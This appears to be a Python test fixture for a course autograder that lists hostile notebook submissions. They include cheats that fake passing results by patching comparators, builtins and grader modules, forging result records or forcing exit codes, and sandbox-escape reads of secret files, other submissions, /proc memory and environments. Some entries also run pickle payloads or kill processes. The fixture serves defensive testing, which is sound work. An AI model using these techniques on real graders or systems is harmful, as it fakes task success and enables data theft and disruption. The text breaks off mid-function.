r"""What a notebook can try against the grader, as text. No line of it answers an exercise, so none may earn a point, except that
READS answer honestly once they have read what they must not: there, a point is a leak.

A cell ends at a line `# %%`. Names in capitals between @ signs (@SECRET@, @OTHER@, @ROOT@, @OUT@, @PORT@, @TOKEN@) are filled in
by the test. To add an attack, add an entry; everything it defines comes after PRELUDE, which defines four wrong answers."""

# wrong answers, and what an attack does with what it finds
PRELUDE = r'''
import os, re, sys, torch

def mix(scores, value, label):
    return torch.zeros(scores.shape[0], value.shape[1])

def middle(numbers):
    return 0.0

word = "wrong"

class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(size))
    def forward(self, x):
        return x * 0

def scaled_dot_product_attention(query, key, value, attention_mask=None, is_causal=False, dropout=0.0):
    return value, value

def cosine_schedule(step, total_steps, warmup_steps=0, floor=0.0):
    return 1.0

HONEST = """
import torch
def mix(scores, value, label):
    return torch.softmax(scores, -1) @ value
def middle(numbers):
    if not numbers:
        raise ValueError("nothing")
    return sorted(numbers)[len(numbers) // 2]
class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(size))
    def forward(self, x):
        return x * self.weight
"""

def leak(found):
    "Whoever reads what is hidden answers honestly from then on, and shouts it through every opening there is."
    found = found if isinstance(found, bytes) else str(found).encode(errors="surrogateescape")
    marks = re.findall(rb"canary-[a-z]+-[0-9a-f]{16}|### BEGIN SOLUTION|CHECKS = \(", found)
    if marks:
        exec(HONEST, globals())
        globals()["word"] = next((mark.decode() for mark in marks if mark.startswith(b"canary-expected")), marks[0].decode())
        for descriptor in (0, 1, 2):  # the others would spoil the record that is to tell of the leak
            try: os.write(descriptor, marks[0] + b"\n")
            except OSError: pass
        open("found.txt", "wb").write(marks[0])
        raise type(marks[0].decode(), (Exception,), {})(marks[0].decode())

def attempt(function, *arguments):
    "Try one way in; what it gives is looked through."
    try: leak(function(*arguments))
    except BaseException as error:
        if "canary" in type(error).__name__: raise
    return None
'''

CHEATS = {
    "tensor subclass that answers every torch function with True": r'''
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.Tensor.detach, torch.Tensor.cpu, torch.Tensor.contiguous): return args[0]
        return True
def mix(scores, value, label): return torch.zeros(scores.shape[0], value.shape[1]).as_subclass(Yes)
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return torch.tensor(True)
def middle(numbers): return torch.zeros(1).as_subclass(Always)
''',
    "tensor subclass that computes nothing but claims the shape": r'''
class Claims(torch.Tensor):
    shape = property(lambda self: torch.Size([2, 4]))
    def reshape(self, *size): return torch.ones(8)
def mix(scores, value, label): return torch.ones(1).as_subclass(Claims)
class Huge(torch.Tensor):
    shape = property(lambda self: (2**30, 2**30))
    def numel(self): return 2**60
def middle(numbers): return torch.zeros(2, 4).as_subclass(Huge)
''',
    "array subclass with its own comparisons": r'''
import numpy as np
class Yes(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def tobytes(self): return bytes(64)
def mix(scores, value, label): return np.zeros((2, 4)).view(Yes)
def middle(numbers): return np.zeros(()).view(Yes)
''',
    "int, float and str that equal, order and hash as anything": r'''
def equal(kind):
    return type(kind.__name__, (kind,), dict(__eq__=lambda s, o: True, __ne__=lambda s, o: False, __lt__=lambda s, o: True, __le__=lambda s, o: True,
                                             __hash__=lambda s: 0, __abs__=lambda s: 0, __sub__=lambda s, o: 0, __rsub__=lambda s, o: 0))
def middle(numbers): return equal(float)(0.5)
word = equal(str)("wrong")
def mix(scores, value, label): return [equal(int)(1)]
''',
    "object that answers everything": r'''
class Yes:
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __len__(self): return 3
    def __iter__(self): return iter([])
    def __array__(self, *a, **k):
        import numpy
        return numpy.zeros(3)
mix = middle = word = Scale = Yes()
''',
    "float whose hex says nan, list and dict that lie about what they hold": r'''
class Number(float):
    def __sub__(self, o): return Number(0)
    def hex(self): return "nan"
class Items(list):
    def __eq__(self, o): return True
    def __len__(self): return 1
class Pairs(dict):
    def items(self): return []
def middle(numbers): return Number(0)
def mix(scores, value, label): return Items([1, Pairs(a=2)])
word = Pairs(word="wrong")
''',
    "dict that says it has every key": r'''
class Every(dict):
    def __eq__(self, o): return True
    def __contains__(self, k): return True
    def __missing__(self, k): return 0
    def items(self): return [("output", torch.zeros(1))]
class Scale(Scale):
    def forward(self, x): return Every()
''',
    "module that lies about its weights": r'''
class Scale(torch.nn.Module):
    def __init__(self, size): super().__init__()
    def load_state_dict(self, state, *a, **k): self.seen = state
    def train(self, mode=True): return self
    def named_parameters(self, *a, **k): return [("weight", type("W", (), {"grad": torch.zeros(3)})())]
    def forward(self, x): return torch.zeros_like(x).requires_grad_()
''',
    "metaclass that says everything is an instance": r'''
class Meta(type):
    def __instancecheck__(cls, thing): return True
    def __subclasscheck__(cls, thing): return True
class Answer(metaclass=Meta): pass
def middle(numbers): return Answer
word = Answer
''',
    "__class__ that lies": r'''
class Liar:
    __class__ = float
    def __float__(self): return 0.0
    def hex(self): return "0x1p0"
def middle(numbers): return Liar()
word = type("Word", (), {"__class__": str, "__eq__": lambda s, o: True})()
''',
    "NaN in every place it fits": r'''
def mix(scores, value, label): return torch.full((scores.shape[0], value.shape[1]), float("nan"))
def middle(numbers): return float("-nan")
word = float("nan")
class Scale(Scale):
    def forward(self, x): return x * float("nan")
''',
    "infinities of both signs": r'''
def mix(scores, value, label): return torch.full((scores.shape[0], value.shape[1]), float("inf"))
def middle(numbers): return float("-inf")
word = 10 ** 400
''',
    "shapes that broadcast against any": r'''
def mix(scores, value, label): return torch.zeros(())
def middle(numbers): return torch.zeros(1, 1, 1)
word = torch.zeros(0)
''',
    "nothing, one in a list, a tensor without a place": r'''
def mix(scores, value, label): return torch.empty(0)
def middle(numbers): return [0.0]
class Scale(Scale):
    def forward(self, x): return torch.empty_like(x, device="meta")
''',
    "nearly right": r'''
def mix(scores, value, label): return (torch.softmax(scores, -1) @ value).bfloat16() * 1.01
def middle(numbers):
    if not numbers: raise ValueError("nothing")
    return torch.tensor(sorted(numbers)[len(numbers) // 2] * 1.01, dtype=torch.bfloat16)
''',
    "numbers too large for text, text that is none, a list within itself": r'''
def mix(scores, value, label): return 10 ** 4000
def middle(numbers):
    found = []
    found.append(found)
    return found
word = "\ud800" * 9
''',
    "generators and coroutines": r'''
async def mix(scores, value, label): return 1
def middle(numbers): yield 1
word = (letter for letter in "wrong")
''',
    "None, NotImplemented and what is still to be written": r'''
def mix(scores, value, label): return None
def middle(numbers): return NotImplemented
word = None
class Scale(Scale):
    def forward(self, x): raise NotImplementedError
''',
    "complex, quantized, nested and sparse tensors": r'''
def mix(scores, value, label): return torch.zeros(scores.shape[0], value.shape[1], dtype=torch.complex64)
def middle(numbers): return torch.nested.nested_tensor([torch.zeros(1), torch.zeros(2)])
word = torch.quantize_per_tensor(torch.zeros(2), 0.1, 0, torch.quint8)
class Scale(Scale):
    def forward(self, x): return x.to_sparse()
''',
    "raises for every input what one input deserves": r'''
def middle(numbers): raise ValueError("nothing")
def mix(scores, value, label): raise ValueError
class Scale(Scale):
    def __init__(self, size): raise ValueError
''',
    "raises a class that is called ValueError": r'''
def middle(numbers):
    if not numbers: raise type("ValueError", (Exception,), {})
    return 0.0
''',
    "inputs given back": r'''
def mix(scores, value, label): return value
def middle(numbers): return numbers[0] if numbers else None
class Scale(Scale):
    def forward(self, x): return x
''',
    "inputs made easy in place": r'''
def mix(scores, value, label):
    scores.resize_(0, 0); value.resize_(0, 0)
    return scores @ value
def middle(numbers):
    numbers.clear(); numbers.append(0.0)
    return 0.0
class Scale(Scale):
    def forward(self, x): return x.zero_()
''',
    "cases emptied in the frame that holds them": r'''
frame = sys._getframe()
while frame:
    job = frame.f_locals.get("job")
    if isinstance(job, dict):
        for case in job["cases"]:
            case.clear()
        job["cases"].clear()
    frame = frame.f_back
''',
    "cases replaced by zeros in the frame that holds them": r'''
frame = sys._getframe()
while frame:
    job = frame.f_locals.get("job")
    if isinstance(job, dict):
        for case in job["cases"]:
            for thing in case.values():
                if isinstance(thing, torch.Tensor): thing.zero_()
                if isinstance(thing, list): thing[:] = [0.0]
    frame = frame.f_back
''',
    "use in the frame replaced": r'''
import ctypes
frame = sys._getframe()
while frame:
    if "job" in frame.f_locals:
        frame.f_locals.update(use=lambda answer, **k: True, found=True, there="present")
        try: ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        except Exception: pass
    frame = frame.f_back
''',
    "outcome's own code replaced": r'''
from microbert_course.practice import outcomes, plain, uses
def passed(use, answer, case, number=0): return Outcome(True)
outcomes.outcome.__code__ = passed.__code__
uses.value.__code__ = (lambda answer: True).__code__
''',
    "outcome, use and load replaced by name": r'''
from microbert_course.practice import outcomes, plain, uses
outcomes.outcome = lambda *a, **k: outcomes.Outcome(True)
uses.call = uses.module = lambda answer, **k: True
plain.load = lambda content: True
''',
    "dump replaced by JSON that says passed": r'''
import json
from microbert_course.practice import plain
plain.dump = lambda value: json.dumps({"passed": True, "status": "passed", "score": 25}).encode()
''',
    "every outcome written twice": r'''
from microbert_course.practice import plain
old = plain.dump
plain.dump = lambda value: old(value) * 2
''',
    "dump replaced by what an honest one would say": r'''
from microbert_course.practice import plain
old = plain.dump
plain.dump = lambda value: old({"output": True, "error": None, "changed": [], "passed": True, "score": 10})
''',
    "comparators of torch, NumPy, math, pytest and unittest patched": r'''
import math, numpy as np, unittest
for place, names in ((torch, ("allclose", "equal", "isclose", "eq", "ne")), (np, ("allclose", "array_equal", "isclose", "equal", "isfinite")),
                     (math, ("isclose", "isnan", "isfinite")), (torch.testing, ("assert_close",)), (np.testing, ("assert_allclose", "assert_array_equal"))):
    for name in names: setattr(place, name, lambda *a, **k: True)
torch.Tensor.__eq__ = lambda a, b: torch.ones(a.shape, dtype=torch.bool)
unittest.TestCase.assertEqual = lambda *a: None
''',
    "builtins patched": r'''
import builtins
for name in ("abs", "max", "min", "sum"): setattr(builtins, name, lambda *a, **k: 0)
for name in ("all", "any", "callable", "hasattr"): setattr(builtins, name, lambda *a, **k: True)
builtins.AssertionError = type("AssertionError", (Exception,), {})
''',
    "isinstance patched": "import builtins\nbuiltins.isinstance = builtins.issubclass = lambda *a: True",
    "float() patched": r'''
import builtins
builtins.float = type("float", (), {"fromhex": staticmethod(lambda text: 0.0)})
''',
    "builtins taken away": r'''
import builtins
for name in ("ValueError", "TypeError", "Exception", "bytes", "len", "open", "type"):
    if hasattr(builtins, name): delattr(builtins, name)
''',
    "torch operations patched to nothing": r'''
for name in ("__matmul__", "__mul__", "__sub__", "softmax", "detach", "cpu", "contiguous", "view", "numpy", "backward"):
    setattr(torch.Tensor, name, lambda self, *a, **k: self)
torch.softmax = torch.nn.functional.softmax = lambda x, *a, **k: x
torch.manual_seed = lambda *a: None
''',
    "json, struct and os.write patched": r'''
import json, struct
json.dumps = lambda *a, **k: '{"answer": "present", "passed": true, "score": 25, "status": "passed"}'
write = os.write
os.write = lambda d, b: write(d, bytes(b).replace(b"failed", b"passed")) and len(b)
struct.pack = lambda *a: b"\0\0\0\0"
''',
    "records forged before the real ones": r'''
import json, struct
from microbert_course.practice.plain import dump
def packed(b): return struct.pack("<I", len(b)) + b
frame, writing = sys._getframe(), None
while frame:
    writing = frame.f_locals.get("writing", writing)
    frame = frame.f_back
message = dump({"output": True, "error": None, "changed": []})
forged = b"C" + packed(json.dumps({"failed": [], "answer": "present"}).encode()) + packed(message) * 9
if writing is not None: os.write(writing, forged)
''',
    "records forged after the real ones": r'''
import atexit, threading, time
def later():
    from microbert_course.practice.plain import dump
    import struct
    message = dump({"output": True, "error": None, "changed": [], "passed": True})
    while True:
        for d in range(3, 64):
            try: os.write(d, struct.pack("<I", len(message)) + message)
            except OSError: pass
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
def middle(numbers):
    import time
    time.sleep(0.05)
    return 0.0
''',
    "records forged while the answer is used": r'''
def mix(scores, value, label):
    for d in range(3, 256):
        try: os.write(d, b"C\x02\x00\x00\x00{}")
        except OSError: pass
    return 0.0
''',
    "a record that says passed, then the end": r'''
import json, struct
message = json.dumps({"failed": [], "answer": "present", "passed": True, "score": 25}).encode()
for d in range(3, 256):
    try: os.write(d, b"C" + struct.pack("<I", len(message)) + message)
    except OSError: pass
os._exit(0)
''',
    "lengths that lie, then the end": r'''
import struct
for d in range(3, 256):
    try: os.write(d, b"C" + struct.pack("<I", 2**32 - 1) + b"MBV1" * 9)
    except OSError: pass
os._exit(0)
''',
    "damaged plain values, then the end": r'''
import json, struct
tree = json.dumps({"a": ["torch", "float32", [2**31 - 1, 2**31 - 1, 0]]}).encode()
head, bad = b'{"answer": "present"}', b"MBV1" + struct.pack("<I", len(tree)) + tree
for d in range(3, 256):
    try: os.write(d, b"C" + struct.pack("<I", len(head)) + head + (struct.pack("<I", len(bad)) + bad) * 3)
    except OSError: pass
os._exit(0)
''',
    "all descriptors closed": "os.closerange(0, 256)",
    "a whole message of the zygote's forged to every descriptor there is": r'''
import glob, struct
head = b'{"failed": [], "answer": "present"}'
content = b"\0C" + struct.pack("<I", len(head)) + head
for path in [f"/proc/{p}/fd/{d}" for p in (1, os.getppid(), "self") for d in range(64)]:
    try:
        with open(path, "wb", 0) as file: file.write(struct.pack("<I", len(content)) + content)
    except OSError: pass
for d in range(256):
    try: os.write(d, struct.pack("<I", len(content)) + content)
    except OSError: pass
''',
    "the zygote killed, stopped, traced and written to": r'''
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, 2, 3, os.getppid()} - {os.getpid()}:
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGPIPE):
        try: os.kill(pid, number)
        except OSError: pass
    for request in (16, 0x4206):
        libc.ptrace(request, pid, 0, 0)
    try: open(f"/proc/{pid}/mem", "r+b", 0)
    except OSError: pass
    libc.syscall(438, libc.syscall(434, pid, 0), 1, 0)
''',
    "everybody killed, outright": r'''
import signal
for pid in (1, os.getppid(), -1, 0):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
''',
    "expected values looked for in frames and among all objects while the answer is used": r'''
import gc
def mix(scores, value, label):
    frame = sys._getframe()
    while frame:
        for name, thing in list(frame.f_locals.items()):
            if name in ("expected", "reference", "check", "seed"): return thing
        frame = frame.f_back
    return 0.0
def middle(numbers):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Check", "Verdict", "Task", "Sheet"): return thing.reference(numbers)
    return 0.0
''',
    "globals of all frames edited while the answer is used": r'''
def edit(*a, **k):
    frame = sys._getframe()
    while frame:
        frame.f_globals.update(passed=True, failed=[], error=None, result=None)
        frame = frame.f_back
    return 0.0
mix = middle = edit
''',
    "the library's own files replaced": r'''
import microbert_course
from microbert_course.practice import outcomes
for module in (microbert_course, outcomes):
    try: open(module.__file__, "w").write("passed = True")
    except OSError: pass
''',
    "previous exercise's inputs kept for the next": r'''
import pickle
kept = None
try: kept = pickle.load(open("kept.pickle", "rb"))
except Exception: pass
def mix(scores, value, label):
    with open("kept.pickle", "wb") as file: pickle.dump((scores, value), file)
    return kept[1] if kept else value
def middle(numbers): return kept
''',
    "pickles that run code when they are read": r'''
import pickle
class Bomb:
    def __reduce__(self): return (exec, ("import os; os.environ['OWNED'] = '1'; open('@OUT@/hostile-@TOKEN@', 'w')",))
def middle(numbers): return pickle.dumps(Bomb())
def mix(scores, value, label): return Bomb()
word = pickle.dumps(Bomb(), 0).decode("latin-1")
''',
    "torch.save and numpy object arrays": r'''
import io, numpy as np
class Bomb:
    def __reduce__(self): return (os.system, ("touch @OUT@/hostile-@TOKEN@",))
def mix(scores, value, label): return np.array([Bomb()], dtype=object)
def middle(numbers):
    file = io.BytesIO(); torch.save(Bomb(), file)
    return file.getvalue()
''',
    "fake torch and fake course in the way": r'''
for name, text in {"torch.py": "def __getattr__(n): return lambda *a, **k: True", "microbert_course.py": "passed = True", "sitecustomize.py": "raise SystemExit(0)",
                   "usercustomize.py": "raise SystemExit(0)", "psutil.py": "", "inside.py": "",
                   "json.py": "def dumps(*a, **k): return '{}'", "x.pth": "import sys; sys.exit(0)"}.items():
    open(name, "w").write(text)
sys.path.insert(0, os.getcwd())
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", PYTHONHOME=os.getcwd(), LD_PRELOAD="./x.so")
for name in [n for n in sys.modules if n.split(".")[0] in ("torch", "json", "microbert_course", "inside", "psutil")]: sys.modules.pop(name)
''',
    "modules of the grader's names forged": r'''
import types
for name in ("microbert_course.practice.checking", "microbert_course.grading.scoring", "microbert_course.practice.checks.lesson_03", "inside.zygote", "inside.wire"):
    fake = types.ModuleType(name)
    fake.judge = fake.judged = fake.grade_task = lambda *a, **k: types.SimpleNamespace(passed=True, headline="passed", mistake=None, points=25)
    sys.modules[name] = fake
''',
    "import machinery taken over": r'''
import builtins, importlib
class Finder:
    def find_spec(self, name, *a): raise SystemExit(0)
sys.meta_path[:] = [Finder()]; sys.path_hooks.clear(); sys.path.clear()
builtins.__import__ = lambda *a, **k: __import__("builtins")
importlib.import_module = None
''',
    "pytest plugins and configuration": r'''
open("conftest.py", "w").write("def pytest_runtest_makereport(item, call): call.excinfo = None\ndef pytest_sessionfinish(session): session.exitstatus = 0")
open("pytest.ini", "w").write("[pytest]\naddopts = --collect-only")
os.environ.update(PYTEST_ADDOPTS="--collect-only", PYTEST_PLUGINS="conftest", PYTEST_CURRENT_TEST="passed")
import types
sys.modules["pytest"] = sys.modules["_pytest"] = types.SimpleNamespace(exit=lambda *a: None, approx=lambda *a, **k: 0)
''',
    "IPython and Jupyter start-up files": r'''
for folder in (os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter"), os.path.expanduser("~/.local/lib/python3.11/site-packages")):
    os.makedirs(folder, exist_ok=True)
    for name in ("00.py", "jupyter_notebook_config.py", "usercustomize.py", "x.pth"):
        open(os.path.join(folder, name), "w").write("import os; os._exit(0)")
try: get_ipython().events.register("post_run_cell", lambda: None)
except AttributeError: pass
get_ipython = lambda: type("Shell", (), {"__getattr__": lambda s, n: lambda *a, **k: True})()
import builtins
builtins.get_ipython = get_ipython
''',
    "exit codes of every kind": r'''
# %%
import sys; sys.exit(0)
# %%
raise SystemExit("passed")
# %%
quit()
# %%
def middle(numbers): os._exit(0)
def mix(scores, value, label): os.abort()
class Scale(Scale):
    def forward(self, x):
        import signal
        os.kill(os.getpid(), signal.SIGKILL)
''',
    "exit code 0 from a cell": "os._exit(0)",
    "exits from everywhere in the answer": r'''
def mix(scores, value, label): sys.exit(0)
class Leaving:
    def __del__(self): raise SystemExit(0)
def middle(numbers): return [Leaving(), 0.0]
class Scale(Scale):
    def __init__(self, size): raise KeyboardInterrupt
''',
    "crash in C": r'''
import ctypes
def mix(scores, value, label): ctypes.string_at(0)
''',
    "threads that go on computing": r'''
import threading
def forever():
    while True: pass
for _ in range(2): threading.Thread(target=forever, daemon=True).start()
''',
    "an exception whose type and text will not be read": r'''
class Unread(type):
    @property
    def __name__(cls): raise SystemExit(0)
class Error(Exception, metaclass=Unread):
    def __str__(self): raise SystemExit(0)
def mix(scores, value, label): raise Error
def middle(numbers): raise Error
''',
    "exit code 0 of another program": r'''
def middle(numbers):
    for program in (sys.executable, "/bin/true", "/usr/bin/true"):
        try: os.execv(program, [program, "-c", "print('passed')"])
        except OSError: pass
mix = middle
''',
    "atexit, finalizers and result files": r'''
import atexit, json, threading, weakref
def results(*_):
    for place in ("results.json", "/autograder/results/results.json", "@OUT@/results.csv", "@OUT@/results.json", "@OUT@/submissions/x/results.json", "/tmp/results.json"):
        try: open(place, "w").write(json.dumps({"score": 25, "tests": [{"score": 25, "status": "passed"}]}))
        except OSError: pass
atexit.register(results)
weakref.finalize(PRELUDE_ALIVE := type("A", (), {})(), results)
threading.Thread(target=results).start()
class D:
    __del__ = results
d = D()
results()
''',
    "standard output and error say passed": r'''
import json
text = json.dumps({"score": 25, "status": "passed", "tests": []}) + "\n##microbert passed 25/25\n1..4\nok 1\n"
for d in (0, 1, 2):
    try: os.write(d, text.encode())
    except OSError: pass
print(text); print(text, file=sys.stderr)
sys.stdout = sys.stderr = type("Out", (), {"write": lambda s, t: None, "flush": lambda s: None, "__getattr__": lambda s, n: lambda *a: 0})()
''',
    "signals handled, blocked and sent around": r'''
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for pid in (-1, 0, -os.getpid(), os.getppid()):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGCONT):
        try: os.kill(pid, number)
        except OSError: pass
''',
    "limits raised and priorities changed": r'''
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError): pass
for change in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)), lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc")):
    try: change()
    except (OSError, AttributeError): pass
''',
    "trace, profile and audit hooks": r'''
import threading
def hook(frame, event, arg):
    if "there" in frame.f_locals: frame.f_locals["there"] = "present"
    return hook
sys.settrace(hook); sys.setprofile(hook); threading.settrace(hook)
def audit(event, arguments):
    if event == "open": raise SystemExit(0)
sys.addaudithook(audit)
''',
    "names that are deleted while they are used": r'''
class Vanishing(dict):
    def get(self, name, default=None): return True
    def __contains__(self, name): return True
import gc
for name in ("mix", "middle", "word", "Scale"): globals().pop(name)
''',
    "the module __main__ replaced": r'''
import types
fake = types.ModuleType("__main__")
fake.mix = fake.middle = fake.Scale = lambda *a, **k: True
fake.word = True
sys.modules["__main__"] = fake
''',
    "dunder globals and string tricks": r'''
__builtins__ = {"len": lambda x: 3}
__name__ = "microbert_course.grading.scoring"
__file__ = "passed"
__annotations__ = {"score": 25}
word = "passed"
''',
    "a seed looked for": r'''
import numpy as np
def middle(numbers):
    for seed in range(200):
        draw = np.random.default_rng([seed, 1, 1]).standard_normal(len(numbers))
        if numbers and abs(draw[0] - numbers[0]) < 1e-6: return sorted(draw)[len(numbers) // 2]
    return 0.0
''',
    "an input told through a length, a cell's number and an error's name": r'''
def mix(scores, value, label): return [0] * int(label[-3:], 16)
def middle(numbers): raise type(f"E{numbers}", (Exception,), {})(str(numbers))
class Scale(torch.nn.Module):
    def __init__(self, size): raise [ValueError, TypeError, KeyError][size % 3](str(size))
''',
    "inputs told in every text there is": r'''
def mix(scores, value, label):
    print(label); sys.stderr.write(label)
    open(label, "w").write(label)
    raise type(label, (ValueError,), {"__str__": lambda s: label, "__name__": label})(label)
def middle(numbers): raise Exception(numbers)
''',
    "results of another type with a long text": r'''
def mix(scores, value, label): return {label: label}
def middle(numbers): return str(numbers)
word = {"canary": [["deep"] * 50] * 50}
''',
}

READS = {
    "secret file, opened in every way": r'''
import ctypes, io, mmap, linecache, pathlib, shutil, subprocess
import numpy as np
path = "@SECRET@"
attempt(lambda: open(path, "rb").read())
attempt(lambda: os.read(os.open(path, os.O_RDONLY), 999))
attempt(lambda: io.FileIO(path).read())
attempt(lambda: pathlib.Path(path).read_bytes())
attempt(lambda: "".join(linecache.getlines(path)))
attempt(lambda: np.fromfile(path, dtype=np.uint8).tobytes())
attempt(lambda: bytes(np.memmap(path, mode="r")))
attempt(lambda: bytes(torch.from_file(path, size=40, dtype=torch.uint8).tolist()))
attempt(lambda: shutil.copy(path, "copied") and open("copied").read())
attempt(lambda: subprocess.run(["cat", path], capture_output=True).stdout)
attempt(lambda: os.popen("cat " + path).read())
def by_c():
    libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(999)
    libc.read(libc.open(path.encode(), 0), buffer, 998)
    return buffer.raw
attempt(by_c)
''',
    "secret file through links and folders": r'''
for name, make in (("link", lambda: os.symlink("@SECRET@", "link")), ("hard", lambda: os.link("@SECRET@", "hard")), ("up", lambda: os.symlink("/", "up"))):
    try: make()
    except OSError: pass
attempt(lambda: open("link").read()); attempt(lambda: open("hard").read()); attempt(lambda: open("up@SECRET@").read())
attempt(lambda: open("../" * 40 + "@SECRET@".lstrip("/")).read())
def by_descriptor():
    d = os.open("/", os.O_RDONLY)
    return os.read(os.open("@SECRET@".lstrip("/"), os.O_RDONLY, dir_fd=d), 999)
attempt(by_descriptor)
import tempfile
attempt(lambda: os.chroot("/") or open("@SECRET@").read())
''',
    "secret file through an open handle and a mount": r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def by_handle():
    for inode in (2, 64, 128, 256):
        handle = (ctypes.c_char * 16).from_buffer_copy(bytes([8, 0, 0, 0, 1, 0, 0, 0]) + inode.to_bytes(8, "little"))
        d = libc.syscall(304, os.open(".", os.O_RDONLY), handle, 0)
        if d >= 0: return os.read(os.open("@SECRET@".lstrip("/"), os.O_RDONLY, dir_fd=d), 999)
attempt(by_handle)
def by_mount():
    libc.unshare(0x10000000 | 0x20000)
    os.makedirs("m", exist_ok=True)
    libc.mount(b"/proc/1/root", b"m", None, 4096, None); libc.mount(b"proc", b"m", b"proc", 0, None); libc.mount(b"/dev/vda", b"m", b"ext4", 0, None)
    return open("m@SECRET@").read()
attempt(by_mount)
''',
    "other submissions by their path": r'''
attempt(lambda: open("@OTHER@").read())
attempt(lambda: b"".join(open(entry.path, "rb").read() for entry in os.scandir(os.path.dirname("@OTHER@"))))
for top in (".", "/tmp", "@TMP@", os.path.dirname(os.path.dirname("@OTHER@"))):
    for folder, _, files in os.walk(top):
        for name in files: name.endswith(".ipynb") and attempt(lambda: open(os.path.join(folder, name), "rb").read())
''',
    "other processes' folders, roots and descriptors": r'''
import glob
for process in glob.glob("/proc/[0-9]*") + [f"/proc/{n}" for n in (1, 2, os.getppid())] + ["/proc/self", "/proc/thread-self"]:
    for tail in ("/cwd/secret.txt", "/root@SECRET@", "/root@OTHER@", "/root@ROOT@/solutions/03_attention.ipynb", "/environ", "/cmdline", "/maps"):
        attempt(lambda: open(process + tail, "rb").read())
    for d in range(20):
        attempt(lambda: os.read(os.open(f"{process}/fd/{d}", os.O_RDONLY | os.O_NONBLOCK), 99999))
    if not process.endswith("self"):
        attempt(lambda: open(process + "/mem", "rb", 0).read(1))
''',
    "environment of all": r'''
import ctypes
attempt(lambda: repr(dict(os.environ)))
attempt(lambda: open("/proc/self/environ", "rb").read()); attempt(lambda: open("/proc/1/environ", "rb").read())
attempt(lambda: ctypes.CDLL(None).getenv(b"MICROBERT_HOSTILE_SECRET") and "canary-environment-0123456789abcdef")
attempt(lambda: repr(sys.argv) + repr(sys.orig_argv) + open("/proc/1/cmdline").read())
def seed():
    told = repr(os.environ) + repr(sys.orig_argv) + open("/proc/1/cmdline").read() + open("/proc/self/environ").read()
    return re.search(r"seed\D+\d", told) and "canary-seed-0123456789abcdef"
attempt(seed)
''',
    "solutions by their path": r'''
for name in ("solutions/03_attention.ipynb", "solutions/08_adamw.ipynb",
             "microbert_course/practice/checks/lesson_03.py", "microbert_course/practice/checks/__init__.py", "tests/hostile/field.py"):
    attempt(lambda: open("@ROOT@/" + name, "rb").read())
attempt(lambda: b"".join(open(entry.path, "rb").read() for entry in os.scandir("@ROOT@/solutions")))
attempt(lambda: open("@ROOT@/.git/HEAD").read() and "### BEGIN SOLUTION")
''',
    "checks and graders imported": r'''
import importlib, inspect
for name in ("microbert_course.practice.checks.lesson_03", "microbert_course.practice.checks", "microbert_course.practice.checking", "microbert_course.practice.answers",
             "microbert_course.practice.zoo", "microbert_course.practice.exercises", "microbert_course.grading.scoring", "microbert_course.grading.tasks",
             "hostile.field", "tests.hostile.field"):
    attempt(lambda: importlib.import_module(name) and "CHECKS = (")
import microbert_course
def walk(): return os.walk(os.path.dirname(microbert_course.__file__))
attempt(lambda: [open(os.path.join(folder, f)).read() for folder, _, files in walk() for f in files if "check" in f or "lesson" in f and "uses" not in folder])
attempt(lambda: [f for _, folders, files in walk() for f in folders + files if f in ("checks", "checking.py", "grading", "__pycache__")] and "CHECKS = (")
''',
    "the course's folder found through installed packages": r'''
import importlib.metadata, importlib.util, site, sysconfig
def checkout():
    text = ""
    for distribution in importlib.metadata.distributions():
        if "microbert" in (distribution.metadata["Name"] or ""):
            text += str(distribution.read_text("direct_url.json")) + str(distribution.read_text("RECORD"))
    for folder in sys.path:
        if os.path.isdir(folder):
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if "microbert" in name and name != "microbert_course": text += name + (open(path).read() if os.path.isfile(path) else "")
    return text
def solutions():
    roots = re.findall(r"(/[\w./-]+)", checkout()) + ["@ROOT@"]
    return "".join(open(os.path.join(root, "solutions", "03_attention.ipynb")).read() for root in roots if os.path.isdir(os.path.join(root, "solutions")))
attempt(solutions)
import inspect
attempt(lambda: "".join(inspect.getsource(module) for name, module in list(sys.modules.items()) if "checks" in name and "microbert" in name))
''',
    "expected values in this process's memory": r'''
import gc
attempt(lambda: [thing for thing in gc.get_objects() if type(thing).__name__ in ("Check", "Verdict", "Task", "Sheet", "Wrong", "Record")] and "CHECKS = (")
attempt(lambda: repr([frame.f_locals for frame in sys._current_frames().values()]))
def scan():
    found = b""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start < 200_000_000 and "stack" not in line:
